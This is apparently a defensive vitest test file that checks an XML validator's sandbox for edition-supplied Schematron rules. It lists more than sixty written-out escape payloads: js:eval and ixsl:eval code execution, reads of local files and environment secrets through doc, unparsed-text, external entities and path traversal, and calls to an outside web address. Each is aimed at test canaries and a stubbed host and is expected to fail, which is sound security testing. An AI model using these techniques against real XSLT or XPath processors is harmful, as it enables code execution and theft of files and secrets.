import { spawnSync } from 'node:child_process';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { compileStylesheet } from '../../src/transform/compile-stylesheet.ts';
import { confinedArguments } from '../../src/transform/confined-process.ts';
import { refusedSource } from '../../src/transform/refused-source.ts';
import { exampleFile } from '../../src/validate/example.ts';
import { validate } from '../../src/validate/run.ts';
import { runSchema } from '../../src/validate/schematron/run-rules-process.ts';
import { newFolder } from '../harness/scratch.ts';
import { outsideWorld, secret } from './outside-world.ts';

/**
 * Rules that come with an edition try to run code, to read what is not theirs and to call out. Every attempt is made for real, by a file that
 * names the rules; each wall is tried alone as well, since one hole must not be enough.
 */

const world = outsideWorld();
const folder = newFolder();
const canary = join(folder, 'canary');
beforeAll(() => {
  process.env['OCTAVO_TEST_SECRET'] = secret;
});
afterAll(() => {
  delete process.env['OCTAVO_TEST_SECRET'];
});

const outside = newFolder({ 'secret.txt': secret, 'secret.xml': `<s>${secret}</s>`, 'evil.xsl': `<s>${secret}</s>` });
const outsideAddress = pathToFileURL(outside).href;

/** JavaScript that leaves the canary by any way it finds. */
const code = (): string =>
  `(process.getBuiltinModule ? process.getBuiltinModule('node:fs') : require('fs')).writeFileSync('${canary}','x')`;
const inAttribute = (text: string): string => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
/** A text as a literal of XPath. */
const literal = (text: string): string => `'${text.replaceAll("'", "''")}'`;

const js = 'http://saxonica.com/ns/globalJS';
const ixsl = 'http://saxonica.com/ns/interactiveXSLT';

const schema = (body: string, more = ''): string => `<?xml version="1.0"?>
<schema xmlns="http://purl.oclc.org/dsdl/schematron" queryBinding="xslt3" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
 xmlns:js="${js}" xmlns:ixsl="${ixsl}" xmlns:saxon="http://saxon.sf.net/" xmlns:map="http://www.w3.org/2005/xpath-functions/map"
 xmlns:sqf="http://www.schematron-quickfix.com/validator/process">
<ns prefix="t" uri="http://www.tei-c.org/ns/1.0"/><ns prefix="js" uri="${js}"/><ns prefix="ixsl" uri="${ixsl}"/><ns prefix="f" uri="urn:f"/>
<ns prefix="saxon" uri="http://saxon.sf.net/"/><ns prefix="map" uri="http://www.w3.org/2005/xpath-functions/map"/><ns prefix="o" uri="urn:octavo:schematron"/>
${more}<pattern><rule context="t:body">${body}</rule></pattern></schema>`;

/** A rule that says what an expression gives. */
const says = (xpath: string): string =>
  `<report test="true()">said: <value-of select="${inAttribute(xpath)}"/></report>`;
const run = (): string => literal(code());
const functionOf = (body: string): string => `<xsl:function name="f:x">${body}</xsl:function>`;

const attempts: Readonly<Record<string, () => string>> = {
  'js:eval in value-of': () => schema(says(`js:eval(${run()})`)),
  'js:eval in a test': () => schema(`<assert test="${inAttribute(`js:eval(${run()})`)}">x</assert>`),
  'js:eval in a let of the schema': () =>
    schema(says('$v'), `<let name="v" value="${inAttribute(`js:eval(${run()})`)}"/>`),
  'js:eval in a let of a rule': () =>
    schema(`<let name="v" value="${inAttribute(`js:eval(${run()})`)}"/>${says('$v')}`),
  'js:eval in a context': () =>
    schema('')
      .replace('context="t:body"', `context="t:body[${inAttribute(`js:eval(${run()})`)}]"`)
      .replace('></rule>', `>${says('1')}</rule>`),
  'js:eval in a subject': () =>
    schema(`<report test="true()" subject="${inAttribute(`js:eval(${run()})`)}">x</report>`),
  'js:eval by its full name': () => schema(says(`Q{${js}}eval(${run()})`)),
  'js:eval under another prefix': () => schema(says(`zz:eval(${run()})`), `<ns prefix="zz" uri="${js}"/>`),
  'js:eval under the prefix of the standard functions': () =>
    schema(says(`fn:eval(${run()})`), `<ns prefix="fn" uri="${js}"/>`),
  'js:eval under a prefix with references in its address': () =>
    schema(says(`zz:eval(${run()})`), `<ns prefix="zz" uri="http://saxonica.com/ns/global&#74;S"/>`),
  'js:eval as a reference to a function': () => schema(says(`js:eval#1(${run()})`)),
  'js:eval as a value': () => schema(says(`let $f := js:eval#1 return $f(${run()})`)),
  'js:eval partly applied': () => schema(says(`js:eval(?)(${run()})`)),
  'js:eval with an arrow': () => schema(says(`${run()} => js:eval()`)),
  'js:eval by apply': () => schema(says(`apply(js:eval#1, [${run()}])`)),
  'js:eval by for-each': () => schema(says(`for-each((${run()}), js:eval#1)`)),
  'js:eval in a map': () => schema(says(`map{'a': js:eval#1}?a(${run()})`)),
  'js:eval in an inline function': () => schema(says(`(function($c) { js:eval($c) })(${run()})`)),
  'js:eval looked up by name': () => schema(says(`function-lookup(QName('${js}', 'eval'), 1)(${run()})`)),
  'js:Function': () => schema(says(`js:Function(${run()})`)),
  'js:require': () => schema(says(`js:require('fs')`)),
  'js:setTimeout': () => schema(says(`js:setTimeout(${run()}, 0)`)),
  'ixsl:eval': () => schema(says(`ixsl:eval(${run()})`)),
  'ixsl:call on the global object': () => schema(says(`ixsl:call(ixsl:window(), 'eval', [${run()}])`)),
  'ixsl:get of process': () => schema(says(`ixsl:get(ixsl:window(), 'process.env.OCTAVO_TEST_SECRET')`)),
  'ixsl:apply': () => schema(says(`ixsl:apply(ixsl:get(ixsl:window(), 'eval'), [${run()}])`)),
  'an ixsl instruction': () =>
    schema(
      says('f:x()'),
      functionOf(
        `<ixsl:schedule-action wait="1" xmlns:ixsl="${ixsl}"><xsl:call-template name="n"/></ixsl:schedule-action>`,
      ) + '<xsl:template name="n"/>',
    ),
  'js:eval in an attribute value template': () =>
    schema(says('f:x()'), functionOf(`<a b="{${inAttribute(`js:eval(${run()})`)}}"/>`)),
  'js:eval in a text value template': () =>
    schema(says('f:x()'), functionOf(`<a xsl:expand-text="yes">{${inAttribute(`js:eval(${run()})`)}}</a>`)),
  'js:eval in a key': () =>
    schema(says(`key('k', 'a')`), `<xsl:key name="k" match="*" use="${inAttribute(`js:eval(${run()})`)}"/>`),
  'js:eval in a template that matches everything': () =>
    schema(
      says('1'),
      `<xsl:template match="/" priority="99999999"><xsl:value-of select="${inAttribute(`js:eval(${run()})`)}"/></xsl:template>`,
    ),
  'js:eval in markup within a message': () =>
    schema(`<report test="true()">x<xsl:value-of select="${inAttribute(`js:eval(${run()})`)}"/></report>`),
  'js:eval in a let that holds markup': () =>
    schema(says('$v'), `<let name="v"><xsl:value-of select="${inAttribute(`js:eval(${run()})`)}"/></let>`),
  'js:eval in a quick fix': () =>
    schema(
      `<report test="true()" sqf:fix="q">x</report><sqf:fix id="q"><sqf:description><sqf:title>T</sqf:title></sqf:description><sqf:delete match="${inAttribute(`js:eval(${run()})`)}"/></sqf:fix>`,
    ),
  'js:eval in the condition of a quick fix': () =>
    schema(
      `<report test="true()" sqf:fix="q">x</report><sqf:fix id="q" use-when="${inAttribute(`js:eval(${run()})`)}"><sqf:description><sqf:title>T</sqf:title></sqf:description><sqf:delete/></sqf:fix>`,
    ),
  'js:eval in a parameter of an abstract pattern': () =>
    schema(
      '',
      `<pattern abstract="true" id="p"><rule context="t:body"><report test="$e">x</report></rule></pattern><pattern is-a="p"><param name="e" value="${inAttribute(`js:eval(${run()})`)}"/></pattern>`,
    ),
  'js:eval when the stylesheet is compiled: use-when': () =>
    schema(says('1'), `<xsl:variable name="v" use-when="${inAttribute(`js:eval(${run()})`)}" select="1"/>`),
  'js:eval when the stylesheet is compiled: a static variable': () =>
    schema(says('$v'), `<xsl:variable name="v" static="yes" select="${inAttribute(`js:eval(${run()})`)}"/>`),
  'js:eval when the stylesheet is compiled: a shadow attribute': () =>
    schema(says('$v'), `<xsl:variable name="v" _select="{${inAttribute(`js:eval(${run()})`)}}"/>`),
  'js:eval when the stylesheet is compiled: xsl:use-when on markup': () =>
    schema(says('f:x()'), functionOf(`<a xsl:use-when="${inAttribute(`js:eval(${run()})`)}"/>`)),
  'a function of its own in the namespace of the engine': () =>
    schema(
      says(`js:eval(${run()})`),
      `<xsl:function name="js:eval"><xsl:param name="c"/><xsl:sequence select="ixsl:eval($c)"/></xsl:function>`,
    ),
  'xsl:evaluate': () =>
    schema(says('f:x()'), functionOf(`<xsl:evaluate xpath="${inAttribute(literal(`js:eval(${run()})`))}"/>`)),
  'saxon:evaluate': () => schema(says(`saxon:evaluate(${literal(`js:eval(${run()})`)})`)),
  'saxon:compile-XPath': () => schema(says(`saxon:xpath-compile('1')`)),
  'fn:transform of a text': () =>
    schema(
      says(
        `transform(map{'stylesheet-text': '<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template name="xsl:initial-template"><xsl:result-document href="${pathToFileURL(canary).href}">x</xsl:result-document></xsl:template></xsl:stylesheet>', 'delivery-format': 'raw'})?output`,
      ),
    ),
  'fn:transform of a file': () => schema(says(`transform(map{'stylesheet-location': '${outsideAddress}/evil.xsl'})`)),
  'load-xquery-module': () => schema(says(`load-xquery-module('urn:x', map{'location-hints': '${world.web}/m.xq'})`)),
  'xsl:result-document': () =>
    schema(
      says('f:x()'),
      functionOf(`<xsl:result-document href="${pathToFileURL(canary).href}"><a/></xsl:result-document>`),
    ),
  'xsl:source-document': () =>
    schema(
      says('f:x()'),
      functionOf(
        `<xsl:source-document href="${outsideAddress}/secret.xml"><xsl:sequence select="string(.)"/></xsl:source-document>`,
      ),
    ),
  'xsl:import': () => schema(says('1'), `<xsl:import href="${outsideAddress}/evil.xsl"/>`),
  'xsl:include': () => schema(says('1'), `<xsl:include href="${outsideAddress}/evil.xsl"/>`),
  'xsl:use-package': () => schema(says('1'), '<xsl:use-package name="urn:p"/>'),
  'xsl:import-schema': () => schema(says('1'), `<xsl:import-schema schema-location="${outsideAddress}/secret.xml"/>`),
  'doc of a file outside': () => schema(says(`doc('${outsideAddress}/secret.xml')`)),
  'doc by a way upwards': () => schema(says(`doc('../../../../../../../..${outside}/secret.xml')`)),
  'doc of an address that is put together': () => schema(says(`doc(concat('fi', 'le://${outside}/sec', 'ret.xml'))`)),
  'doc with an encoded way': () => schema(says(`doc('%2e%2e/%2e%2e/..${outside}/secret.xml')`)),
  'document of a file outside': () => schema(says(`document('${outsideAddress}/secret.xml')`)),
  'doc of the web': () => schema(says(`doc('${world.web}/a.xml')`)),
  'doc-available of the web': () => schema(says(`doc-available('${world.web}/a.xml')`)),
  'doc with the text in the address': () => schema(says(`doc(concat('${world.web}/', encode-for-uri(string(.))))`)),
  collection: () => schema(says(`collection('${outsideAddress}')`)),
  'uri-collection': () => schema(says(`uri-collection('${outsideAddress}')`)),
  'unparsed-text': () => schema(says(`unparsed-text('${outsideAddress}/secret.txt')`)),
  'unparsed-text-lines': () => schema(says(`unparsed-text-lines('${outsideAddress}/secret.txt')`)),
  'unparsed-text-available of the web': () => schema(says(`unparsed-text-available('${world.web}/x')`)),
  'unparsed-text as a value': () => schema(says(`('${outsideAddress}/secret.txt') ! unparsed-text#1(.)`)),
  'json-doc': () => schema(says(`json-doc('${world.web}/x.json')`)),
  'environment-variable': () => schema(says(`environment-variable('OCTAVO_TEST_SECRET')`)),
  'available-environment-variables': () => schema(says('available-environment-variables()')),
  'available-system-properties': () => schema(says('available-system-properties()')),
  'an external entity in an XML text that it parses': () =>
    schema(says(`parse-xml('<!DOCTYPE a [<!ENTITY x SYSTEM "${outsideAddress}/secret.txt">]><a>&amp;x;</a>')`)),
  'results that look like ours': () =>
    schema(
      `<report test="true()">x<xsl:element name="f"><xsl:attribute name="a">99999</xsl:attribute></xsl:element></report>`,
    ),
};

describe('rules that a file names', () => {
  test('try to get out in every way, and none does', async () => {
    const names = Object.keys(attempts);
    const files = Object.fromEntries(
      names.flatMap((name, i) => [
        [`r${i}.sch`, attempts[name]!()],
        [
          `t${i}.xml`,
          exampleFile('<ab>words</ab>').replace(
            /(<\?xml[^>]*\?>)?/,
            `$1<?xml-model href="r${i}.sch" schematypens="http://purl.oclc.org/dsdl/schematron"?>`,
          ),
        ],
      ]),
    );
    const edition = newFolder(files);
    const { findings } = await validate({ schemas: [], paths: [edition] });
    expect(existsSync(canary)).toBe(false);
    expect(world.calls).toBe(0);
    expect(JSON.stringify(findings)).not.toContain(secret);
    const about = (i: number): string[] =>
      findings
        .filter(({ span }) => span && new RegExp(`/(?:r${i}\\.sch|t${i}\\.xml)$`).test(span.file))
        .map(({ code: one }) => one);
    const silent = names.filter((_, i) => !about(i).some((one) => one.startsWith('schematron')));
    expect(silent, 'attempts that nothing was said about').toEqual([]);
    expect(names.length).toBeGreaterThanOrEqual(60);
  }, 900_000);

  test('that only look at the document are not refused', async () => {
    const body = says(
      "string-join(for $w in tokenize(., '\\s+') return upper-case#1($w), '-') || map:size(map{'a':1}) || sort((2,1))[1]",
    );
    const edition = newFolder({ 'a.xml': exampleFile('<ab>two words</ab>'), 'r.sch': schema(body) });
    const { findings } = await validate({ schemas: [], schematrons: [join(edition, 'r.sch')], paths: [edition] });
    expect(findings.map(({ message }) => message)).toEqual(['said: -TWO-WORDS-11']);
  }, 60_000);
});

describe('each wall alone', () => {
  /** A compiled form in which a harmless call was exchanged for another: as if the first wall were not there. */
  async function smuggled(call: string, argument: string): Promise<string> {
    const compiled = await compileStylesheet(
      `<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><r><xsl:value-of select="upper-case(string(/*/@c))"/></r></xsl:template></xsl:stylesheet>`,
    );
    if (!('sef' in compiled)) throw new Error(JSON.stringify(compiled));
    const changed = compiled.sef.replace(/"N":"fn","name":"upper-case"/, call);
    expect(changed).not.toBe(compiled.sef);
    const load = { sef: changed, schema: pathToFileURL(join(folder, 's.sch')).href };
    const question = { xml: `<a c="${inAttribute(argument)}"/>`, source: 'file:///a.xml' };
    const [outcome] = await runSchema(load, [question], { limits: { seconds: 60 } });
    return JSON.stringify(outcome);
  }

  test.each([
    ['js:eval', `"N":"ifCall","name":"Q{${js}}eval"`, () => code()],
    ['ixsl:eval', `"N":"ifCall","name":"Q{${ixsl}}eval"`, () => code()],
    ['js:require', `"N":"ifCall","name":"Q{${js}}require"`, () => 'fs'],
    ['ixsl:get', `"N":"ifCall","name":"Q{${ixsl}}get"`, () => 'process'],
    ['unparsed-text of a file', '"N":"fn","name":"unparsed-text"', () => `${outsideAddress}/secret.txt`],
    ['unparsed-text of the web', '"N":"fn","name":"unparsed-text"', () => `${world.web}/x`],
    ['doc of the web', '"N":"fn","name":"doc"', () => `${world.web}/x`],
  ])(
    'the process gives nothing away where the list lets %s through',
    async (_, call, argument) => {
      const outcome = await smuggled(call, argument());
      expect(outcome).toContain('"error"');
      expect(outcome).not.toContain(secret);
      expect(existsSync(canary)).toBe(false);
      expect(world.calls).toBe(0);
    },
    60_000,
  );

  test.each([
    ['reads a file', `require('fs').readFileSync('${outside}/secret.txt','utf8')`],
    ['writes a file', `require('fs').writeFileSync('${canary}','x')`],
    ['starts a program', `require('child_process').execSync('echo ${secret}').toString()`],
    ['starts a thread', `new (require('worker_threads').Worker)('1',{eval:true}).threadId + '${secret}'`],
    ['makes code of a text', `Function('return "${secret.slice(0, 5)}" + "${secret.slice(5)}"')()`],
    ['sees the environment', 'process.env.OCTAVO_TEST_SECRET'],
  ])('Node itself stops a confined process that %s', (_, attempt) => {
    const home = newFolder();
    writeFileSync(join(home, 'a.cjs'), `process.stdout.write(String(${attempt}))`);
    const args = confinedArguments({ read: [`${home}/*`], megabytes: 200 });
    const { stdout } = spawnSync(process.execPath, [...args, join(home, 'a.cjs')], { encoding: 'utf8', env: {} });
    expect(stdout).not.toContain(secret);
    expect(existsSync(canary)).toBe(false);
  });

  test('the compiler never sees what is evaluated while it compiles', () => {
    const sheet = (part: string): string =>
      `<x:stylesheet version="3.0" xmlns:x="http://www.w3.org/1999/XSL/Transform">${part}</x:stylesheet>`;
    for (const part of [
      '<x:variable name="v" _select="{1}"/>',
      '<x:variable name="v" static="true" select="1"/>',
      '<x:template match="/" use-when="1"/>',
      '<x:template match="/"><a x:use-when="1"/></x:template>',
      '<x:include href="a"/>',
      '<x:template match="/"><x:evaluate xpath="1"/></x:template>',
      `<x:template match="/"><i:set-property xmlns:i="${ixsl}"/></x:template>`,
      '<x:template match="/"><a></x:template>',
    ])
      expect(refusedSource(sheet(part)), part).not.toEqual([]);
    expect(refusedSource(sheet('<x:variable name="v" select="1"/>'))).toEqual([]);
  });
});
